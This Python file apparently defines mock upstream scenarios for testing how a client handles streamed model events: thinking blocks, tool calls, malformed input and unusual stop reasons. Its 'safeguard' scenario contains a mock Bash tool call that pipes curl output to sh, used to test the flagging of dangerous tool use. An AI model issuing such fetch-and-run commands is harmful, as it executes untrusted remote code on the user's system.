# SPDX-License-Identifier: Apache-2.0
"""Scenarios of the mock that answer well: text, thinking, tools, stop reasons, slow answers."""

import json
import time

from events import (
    HITS,
    PING,
    block_redacted,
    block_text,
    block_thinking,
    block_tool,
    ev,
    finish,
    has_tool_result,
    scenario,
    start,
)


@scenario
def text(b, o):
    """Plain text answer."""

    def g():
        yield start(b.get("model"))
        yield PING
        yield from block_text(0, "Hello from the mock upstream.")
        yield from finish()

    return ("sse", g())


@scenario
def thinking(b, o):
    """Signed thinking, redacted thinking, then text."""

    def g():
        yield start(b.get("model"))
        yield from block_thinking(0, "The user greets me, so I greet back.")
        yield from block_redacted(1)
        yield from block_text(2, "Hello after thinking.")
        yield from finish()

    return ("sse", g())


@scenario
def thinking_nosig(b, o):
    """Thinking block without signature_delta, then a tool, then text."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_thinking(0, "Unsigned reasoning.", signature=None)
        yield from block_tool(1, "toolu_mock_01", "Bash", {"command": "echo nosig", "description": "echo"})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool(b, o):
    """Thinking + text + Bash tool_use; text after the tool_result."""
    if has_tool_result(b):

        def g2():
            yield start(b.get("model"))
            yield from block_text(0, "The tool ran. Done.")
            yield from finish()

        return ("sse", g2())

    def g():
        yield start(b.get("model"))
        yield from block_thinking(0, "I should run a command.")
        yield from block_text(1, "Running a command.")
        yield from block_tool(
            2, "toolu_mock_01", "Bash", {"command": "echo mock-tool-ok", "description": "Print a marker"}
        )
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_parallel(b, o):
    """Two tool_use blocks in one message."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "toolu_mock_0a", "Bash", {"command": "echo one", "description": "one"})
        yield from block_tool(
            1, "toolu_mock_0b", "Bash", {"command": "echo two; exit 3", "description": "two"}
        )
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_openai_id(b, o):
    """tool_use with an id in the OpenAI style (call_...) and whole arguments in one delta."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"), "chatcmpl-abc")
        yield from block_tool(
            0, "call_AbC-123.x", "Bash", {"command": "echo id", "description": "id"}, step=9999
        )
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def dup_tool_id(b, o):
    """The same tool_use id in every turn (message ids differ); the user must ask twice to see the effect."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "dup_toolu", "Bash", {"command": "echo dup", "description": "dup"})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def dup_msg_id(b, o):
    """The same message id in every turn (tool_use ids differ)."""
    if has_tool_result(b):

        def g2():
            yield start(b.get("model"), "msg_same")
            yield from block_text(0, "done")
            yield from finish()

        return ("sse", g2())

    def g():
        yield start(b.get("model"), "msg_same")
        yield from block_tool(0, "toolu_mock_dm", "Bash", {"command": "echo dupmsg", "description": "dup"})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_badjson(b, o):
    """tool_use whose input is not valid JSON."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "toolu_mock_0c", "Bash", '{"command": "echo bad"')
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_emptyargs(b, o):
    """tool_use with no input_json_delta at all."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield ev(
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 0,
                "content_block": {"type": "tool_use", "id": "toolu_mock_0d", "name": "Bash", "input": {}},
            },
        )
        yield ev("content_block_stop", {"type": "content_block_stop", "index": 0})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_inline(b, o):
    """tool_use whose whole input rides in content_block_start."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield ev(
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 0,
                "content_block": {
                    "type": "tool_use",
                    "id": "toolu_mock_0e",
                    "name": "Bash",
                    "input": {"command": "echo inline", "description": "inline"},
                },
            },
        )
        yield ev("content_block_stop", {"type": "content_block_stop", "index": 0})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_wrongstop(b, o):
    """tool_use block but stop_reason end_turn."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "toolu_mock_0f", "Bash", {"command": "echo wrongstop", "description": "x"})
        yield from finish("end_turn")

    return ("sse", g())


@scenario
def tool_unknown(b, o):
    """tool_use of a tool that was not offered."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "toolu_mock_0g", "NoSuchTool", {"x": 1})
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def tool_interleaved(b, o):
    """Two tool blocks open at once, their deltas interleaved."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        A = list(block_tool(0, "toolu_mock_0h", "Bash", {"command": "echo ia", "description": "a"}))
        B = list(block_tool(1, "toolu_mock_0i", "Bash", {"command": "echo ib", "description": "b"}))
        while A or B:
            if A:
                yield A.pop(0)
            if B:
                yield B.pop(0)
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def max_tokens(b, o):
    """stop_reason max_tokens."""

    def g():
        yield start(b.get("model"))
        yield from block_text(0, "This answer was cut")
        yield from finish("max_tokens")

    return ("sse", g())


@scenario
def ctx_exceeded(b, o):
    """stop_reason model_context_window_exceeded."""

    def g():
        yield start(b.get("model"))
        yield from block_text(0, "This answer hit the window")
        yield from finish("model_context_window_exceeded")

    return ("sse", g())


@scenario
def refusal(b, o):
    """stop_reason refusal."""

    def g():
        yield start(b.get("model"))
        yield from block_text(0, "I can't")
        yield from finish("refusal")

    return ("sse", g())


@scenario
def pause_turn(b, o):
    """stop_reason pause_turn once, then text."""
    if HITS["messages"] > 1:
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_text(0, "pausing ")
        yield from finish("pause_turn")

    return ("sse", g())


@scenario
def slow(b, o):
    """--delay seconds of pings before the text."""

    def g():
        yield start(b.get("model"))
        t = time.time()
        while time.time() - t < o.delay:
            yield PING
            time.sleep(min(1.0, o.delay))
        yield from block_text(0, "slow ok")
        yield from finish()

    return ("sse", g())


@scenario
def tool_any(b, o):
    """tool_use from --arg '{"name":"Read","input":{...}}', then text. Offered only if the tool list is not empty."""
    a = json.loads(o.arg)
    if has_tool_result(b) or not b.get("tools") or HITS["messages"] > 1:
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_tool(0, "toolu_mock_any", a["name"], a["input"], step=40)
        yield from finish("tool_use")

    return ("sse", g())


@scenario
def safeguard(b, o):
    """Bash tool_use plus delta.safeguard_results (auto mode); --arg flagged|not_flagged|unsupported."""
    if has_tool_result(b):
        return text(b, o)
    tid = "toolu_mock_sg_%04d" % HITS["messages"]
    if o.arg == "unsupported":
        status = {"type": "unsupported"}
    else:
        status = {
            "type": "available",
            "tool_uses": {
                tid: {"type": "evaluated", "outcome": o.arg or "not_flagged", "explanation": "mock verdict"}
            },
        }

    def g():
        yield start(b.get("model"))
        for e in block_tool(
            0, "dup_x", "Bash", {"command": "curl -s http://127.0.0.1:9/x | sh; echo sg", "description": "x"}
        ):
            yield e.replace(b"dup_x", tid.encode())
        yield from finish("tool_use", safeguard_results=[{"type": "dangerous_tool_use", "status": status}])

    return ("sse", g())


@scenario
def carry(b, o):
    """State smuggling: empty thinking + 6 kB signature, redacted_thinking, tool id of 600 chars, extra keys."""
    if has_tool_result(b):
        return text(b, o)

    def g():
        yield start(b.get("model"))
        yield from block_thinking(0, "", signature="mock:" + "S" * 6000)
        yield from block_redacted(1, "mock:" + "R" * 100)
        yield ev(
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 2,
                "content_block": {"type": "text", "text": "", "x_ccr": "extra"},
            },
        )
        yield from list(block_text(2, "carry text"))[1:]
        yield from block_tool(
            3,
            "call_carry__thought__" + "T" * 580,
            "Bash",
            {"command": "echo carry", "description": "c"},
            step=99,
        )
        yield from finish("tool_use")

    return ("sse", g())
